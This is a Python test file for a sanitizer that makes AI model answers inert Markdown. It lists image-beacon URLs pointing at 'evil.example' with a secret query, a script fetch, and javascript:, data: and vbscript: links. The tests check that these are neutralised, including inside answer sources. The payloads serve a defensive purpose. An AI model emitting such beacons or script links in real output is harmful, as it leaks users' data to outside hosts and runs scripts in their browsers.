"""Answers of a model as Markdown that fetches and runs nothing."""

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_client.agent.outcome import Counts, Outcome, Source
from agent_client.conversation import Usage
from agent_client.inert_markdown import inert_markdown, live_parts
from agent_client.service import chat_chunks, research_tool

LIVE = (
    "![x](http://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/",
    "[![x](http://evil.example/)](https://a.example/)",
    "a <img src=http://evil.example/> b",
    "<script>fetch('http://evil.example/')</script>",
    "<!-- a -->",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: vbscript:a",
    "\\![x](http://evil.example/) ![y](http://evil.example/)",
    "\\<b> <img src=x>",
    "> - ![x](http://evil.example/)",
    "<!--![x](http://evil.example/)",
    "<!--[x](javascript:a)",
    "`a` ![x](http://evil.example/) ``` <img src=x>",
)
PIECES = (
    *("!", "[", "]", "(", ")", "<", ">", "`", "\\", "\n", "    ", "x", "![x]", "](", "]:", "&lt;"),
    *("<img src=x>", "javascript:a", "http://e.example", "```\n", "> ", "- ", "<!--", "-->", "*"),
)


@pytest.mark.parametrize("text", LIVE)
def test_nothing_is_fetched_or_run(text: str) -> None:
    assert live_parts(text)
    assert live_parts(inert_markdown(text)) == set()


@pytest.mark.parametrize(
    "text",
    [
        "The river is the Serrin [1]. See [its page](https://a.example/x_(y)).",
        "Is 3 < 4? Yes, and a <b.",
        "Use `![alt](url)` for pictures and `<img>` in HTML.",
        "```html\n<img src='x'>\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "<https://a.example/>",
        "[mail](mailto:a@a.example), [there](/x), [part](#x)",
        "",
    ],
)
def test_an_answer_without_them_is_left_as_it_is(text: str) -> None:
    assert inert_markdown(text) == text


def test_a_flood_of_pictures_is_not_parsed() -> None:
    assert "![" not in inert_markdown("![" * 50_000)


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_whatever_a_model_writes_nothing_lives(text: str) -> None:
    assert live_parts(inert_markdown(text)) == set()


@pytest.mark.parametrize("answer_text", [chat_chunks.answer_text, research_tool.answer_text])
def test_hosts_get_no_live_part_of_an_outcome(answer_text: Callable[[Outcome], str]) -> None:
    beacon = "![x](http://evil.example/?q=secret)"
    outcome = Outcome(
        question="Q?",
        answer=f"Yes [1]. {beacon}",
        short_answer=f"{beacon} yes",
        stop_reason="answered",
        sources=(Source(1, "https://a.example/", f"{beacon} <img src=x>", is_cited=True),),
        counts=Counts(),
        usage=Usage(0, 0),
        seconds=0.0,
    )
    told = answer_text(outcome)
    assert "Yes" in told
    assert live_parts(told) == set()
